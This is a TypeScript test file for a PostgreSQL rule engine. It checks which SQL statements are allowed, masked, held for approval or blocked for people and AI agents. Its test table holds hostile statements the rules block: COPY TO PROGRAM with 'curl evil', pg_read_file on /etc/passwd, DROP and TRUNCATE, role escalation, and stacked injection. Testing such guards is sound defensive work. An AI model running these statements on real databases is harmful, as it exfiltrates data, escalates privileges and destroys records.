import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { analyse } from '../../../adapters/postgresql/sql/analyse.ts'
import { SQL_FACTS } from '../../../adapters/postgresql/sql/facts-declaration.ts'
import { loadSqlParser } from '../../../adapters/postgresql/sql/load.ts'
import type { Command, Identity, Verdict } from '../../../core/events/index.ts'
import { explain, loadRuleset, testRules, type Ruleset } from '../../../core/rules/index.ts'
import { ruleInput } from './rule-input.ts'

const FOLDER = fileURLToPath(new URL('../../../rules', import.meta.url))
let samples: Ruleset

before(async () => {
  await loadSqlParser()
  const read = await loadRuleset(FOLDER, { default: 'block', facts: [SQL_FACTS], labels: [], approval: { approvers: ['group:reviewers'], timeoutSeconds: 600 } })
  assert.ok('ruleset' in read, JSON.stringify(read))
  samples = read.ruleset
})

test('every case of the sample rules passes, and they reach every branch', async () => {
  const report = await testRules(samples)
  assert.deepEqual([report.failed, report.untested, report.problems], [0, [], []])
  assert.deepEqual(report.rules.filter(({ unreached }) => unreached.length > 0).map(({ rule, unreached }) => [rule, unreached]), [])
  assert.ok(report.passed > 50)
})

test('every sample rule is compiled: none needs the thread', () => {
  assert.deepEqual(samples.rules.filter(({ compiled }) => compiled === undefined).map(({ id }) => id), [])
})

async function decide(text: string, identity: Partial<Identity>): Promise<Verdict> {
  const { action, actions, resources, fidelity, opaque, sql } = analyse(text, { resolver: undefined, searchPath: ['public'] })
  const command: Partial<Command> = { text, action, actions: [...actions], resources: [...resources], fidelity, opaque, facts: { sql } }
  return (await explain(samples, ruleInput({ command, identity }))).verdict
}

const PERSON = { kind: 'person' } as const
const AGENT = { kind: 'agent' } as const
/** Statement → what becomes of it for a person, and for an agent. */
const DECISIONS: readonly (readonly [string, Verdict['effect'], Verdict['effect']])[] = [
  ['SELECT id, email FROM public.people', 'mask', 'mask'],
  ['SELECT 1', 'mask', 'mask'],
  ['BEGIN', 'allow', 'allow'],
  ['SET statement_timeout = 1000', 'allow', 'allow'],
  ['SET ROLE postgres', 'block', 'block'],
  ["UPDATE public.orders SET state = 'sent' WHERE id = 5", 'mask', 'await-approval'],
  ["INSERT INTO public.orders (id) VALUES (5)", 'mask', 'await-approval'],
  ["UPDATE public.payments SET amount = 0 WHERE id = 5", 'await-approval', 'await-approval'],
  ['DELETE FROM public.orders', 'block', 'block'],
  ['DELETE FROM public.orders WHERE true', 'block', 'block'],
  ['DELETE FROM public.orders WHERE id = 5 RETURNING *', 'mask', 'await-approval'],
  ['DROP TABLE public.orders', 'block', 'block'],
  ['SELECT 1; DROP TABLE public.orders', 'block', 'block'],
  ['TRUNCATE public.orders', 'block', 'block'],
  ["COPY public.people TO PROGRAM 'curl evil'", 'block', 'block'],
  ["SELECT pg_read_file('/etc/passwd')", 'block', 'block'],
  ["DO $$ BEGIN DELETE FROM public.orders; END $$", 'block', 'block'],
  ['CREATE TABLE public.copy AS SELECT * FROM public.people', 'block', 'block'],
  ['GRANT ALL ON public.people TO public', 'block', 'block'],
  ["SELECT set_config('search_path', 'public', false)", 'mask', 'mask'],
  ["SET client_encoding = 'UTF8'; SELECT 1", 'mask', 'mask'],
  ["SELECT set_config('role', 'dba', false)", 'block', 'block'],
  ["SELECT set_config('role_of_mine'::varchar(4), 'dba', false)", 'block', 'block'],
  ["SELECT set_config(name, 'dba', false) FROM public.settings", 'block', 'block'],
  ['SET ROLE dba; SELECT 1', 'block', 'block'],
  ["SET ROLE dba; UPDATE public.orders SET state = 'sent' WHERE id = 5", 'block', 'block'],
  ["SET session_replication_role = replica; DELETE FROM public.orders WHERE id = 5", 'block', 'block'],
  ["SELECT set_config('row_security', 'off', false), id FROM public.orders", 'block', 'block'],
  ['RESET ROLE', 'allow', 'allow'],
  ['SET ROLE NONE', 'allow', 'allow'],
  ['RESET SESSION AUTHORIZATION', 'allow', 'allow'],
  ['SELECT pg_advisory_unlock_all()', 'mask', 'mask'],
  ['SELECT id FROM public.orders WHERE id = 5 FOR UPDATE', 'mask', 'await-approval'],
  ['SELECT pg_try_advisory_lock(5)', 'mask', 'await-approval'],
  ['LOCK TABLE public.orders', 'block', 'block'],
  ['LOCK TABLE public.orders; SELECT id FROM public.orders FOR UPDATE', 'block', 'block'],
  ['NOTIFY orders', 'block', 'block'],
  ['CREATE TEMP TABLE t (id int)', 'mask', 'block'],
  ['CREATE TEMP TABLE IF NOT EXISTS t AS SELECT id FROM public.orders', 'mask', 'block'],
  ['SELECT id INTO TEMP t FROM public.orders', 'mask', 'block'],
  ['BEGIN; CREATE TEMP TABLE t (id int); COMMIT', 'mask', 'block'],
  ['DELETE FROM pg_temp.t', 'mask', 'await-approval'],
  ['TRUNCATE pg_temp.t', 'mask', 'block'],
  ['DROP TABLE pg_temp.t', 'mask', 'block'],
  ['DROP TABLE pg_temp_3.t', 'block', 'block'],
  ['DROP TABLE t', 'block', 'block'],
  ['DROP TABLE pg_temp.t, public.orders', 'block', 'block'],
  ['DROP TABLE pg_temp.t; DROP TABLE public.orders', 'block', 'block'],
  ['TRUNCATE pg_temp.t, pg_temp_3.t', 'block', 'block'],
  ['DROP FUNCTION pg_temp.f', 'block', 'block'],
  ['CREATE TEMP TABLE t () INHERITS (public.people)', 'block', 'block'],
  ['CREATE TEMP TABLE t AS WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT * FROM gone', 'block', 'block'],
  ['CREATE TEMP VIEW v AS SELECT 1', 'block', 'block'],
  ['CREATE TEMP TABLE t (id int); CREATE TABLE u (id int)', 'block', 'block'],
  ['DELETE FROM pg_temp.t; DELETE FROM public.orders', 'block', 'block'],
  ['COPY public.orders FROM STDIN', 'mask', 'await-approval'],
  ["COPY public.orders FROM '/tmp/orders'", 'block', 'block'],
  ["WITH next AS (SELECT id FROM public.jobs WHERE state = 'new' LIMIT 1 FOR UPDATE SKIP LOCKED) UPDATE public.jobs SET state = 'taken' FROM next WHERE next.id = jobs.id", 'mask', 'await-approval'],
  ['WITH gone AS (DELETE FROM public.orders WHERE id = 1 RETURNING *) SELECT * FROM gone', 'mask', 'await-approval'],
]
for (const [text, person, agent] of DECISIONS) {
  test(`${text}: ${person} for a person, ${agent} for an agent`, async () => {
    assert.equal((await decide(text, PERSON)).effect, person, 'person')
    assert.equal((await decide(text, AGENT)).effect, agent, 'agent')
    assert.equal((await decide(text, { ...PERSON, actor: 'assistant' })).effect, agent, 'agent acting for a person')
  })
}
